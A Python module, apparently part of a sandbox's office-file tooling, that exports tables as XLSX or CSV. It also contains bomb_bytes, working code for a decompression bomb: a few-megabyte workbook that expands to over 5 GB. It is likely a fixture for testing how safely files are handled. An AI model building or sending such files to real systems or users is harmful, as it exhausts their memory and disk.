"""The sandbox's tables as files: XLSX, CSV, and a workbook that unpacks to gigabytes."""

from __future__ import annotations

import csv
import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from datetime import datetime

from backhaul.sandbox.office.data import Table

_MIB = 2**20
_SHEET_MIB = 2_600
"""Unpacked size of each of the bomb's two sheets; together they pass 5 GB, each stays under ZIP's 4 GiB."""


def xlsx_bytes(table: Table, sheets: int = 1) -> bytes:
    """Return table as an XLSX file, a header and typed cells; text stays text. More sheets repeat it."""
    import xlsxwriter

    file = io.BytesIO()
    options = {
        "constant_memory": True,
        "default_date_format": "yyyy-mm-dd hh:mm:ss",
        "strings_to_formulas": False,
        "strings_to_urls": False,
    }
    with xlsxwriter.Workbook(file, options) as workbook:
        for _ in range(sheets):
            sheet = workbook.add_worksheet()
            sheet.write_row(0, 0, table.columns)
            for number, row in enumerate(table.rows, start=1):
                sheet.write_row(number, 0, [row.get(column) for column in table.columns])
    return file.getvalue()


def csv_bytes(table: Table) -> bytes:
    """Return table as comma-separated UTF-8 text."""
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    writer.writerow(table.columns)
    for row in table.rows:
        cells = (row.get(column) for column in table.columns)
        writer.writerow([f"{cell:%Y-%m-%d %H:%M:%S}" if isinstance(cell, datetime) else cell for cell in cells])
    return text.getvalue().encode()


@functools.cache
def bomb_bytes() -> bytes:
    """Return a well-formed workbook of a few megabytes that unpacks to more than 5 GB of rows."""
    plain = xlsx_bytes(Table(columns=("Nomor",), rows=()), sheets=2)
    huge = _huge_sheet()
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        members = [
            (name, huge if name.startswith("xl/worksheets/") else _packed(archive.read(name)))
            for name in archive.namelist()
        ]
    return _zip(members)


@dataclass(frozen=True)
class _Packed:
    """A member of a ZIP file, compressed already."""

    data: bytes
    crc: int
    size_bytes: int


def _packed(content: bytes) -> _Packed:
    packer = zlib.compressobj(wbits=-15)
    return _Packed(packer.compress(content) + packer.flush(), zlib.crc32(content), len(content))


def _huge_sheet() -> _Packed:
    # A block that ends in a full flush needs nothing of what came before it, so that one compressed
    # MiB can stand thousands of times in a row: gigabytes are packed in milliseconds.
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    row = b'<row><c t="inlineStr"><is><t>0</t></is></c></row>'
    block = (row * (_MIB // len(row) + 1))[: _MIB // len(row) * len(row)]
    tail = b"</sheetData></worksheet>"
    repeats = _SHEET_MIB * _MIB // len(block)
    packer = zlib.compressobj(9, wbits=-15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(tail) + packer.flush()
    crc = zlib.crc32(tail, _crc_repeated(block, repeats, zlib.crc32(head)))
    return _Packed(first + again * repeats + last, crc, len(head) + len(block) * repeats + len(tail))


def _crc_repeated(block: bytes, times: int, crc: int) -> int:
    """Return the CRC after block came times times, without reading it that often.

    What a block does to a CRC is affine over its 32 bits, so that 33 readings tell the whole map.
    """
    of_none = zlib.crc32(block, 0)
    of_bit = [zlib.crc32(block, 1 << bit) ^ of_none for bit in range(32)]
    for _ in range(times):
        moved = of_none
        for bit in range(32):
            if crc >> bit & 1:
                moved ^= of_bit[bit]
        crc = moved
    return crc


def _zip(members: list[tuple[str, _Packed]]) -> bytes:
    # zipfile writes no member that comes compressed, so the few fields of the format are written here.
    new_year_1980 = 0x0021
    bodies, directory = bytearray(), bytearray()
    for name, packed in members:
        common = struct.pack(
            "<HHHHHIIIHH",
            *(20, 0, zipfile.ZIP_DEFLATED, 0, new_year_1980),
            *(packed.crc, len(packed.data), packed.size_bytes, len(name), 0),
        )
        place = struct.pack("<HHHII", 0, 0, 0, 0, len(bodies))
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + common + place + name.encode()
        bodies += b"PK\x03\x04" + common + name.encode() + packed.data
    end = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(directory), len(bodies), 0)
    return bytes(bodies + directory + b"PK\x05\x06" + end)
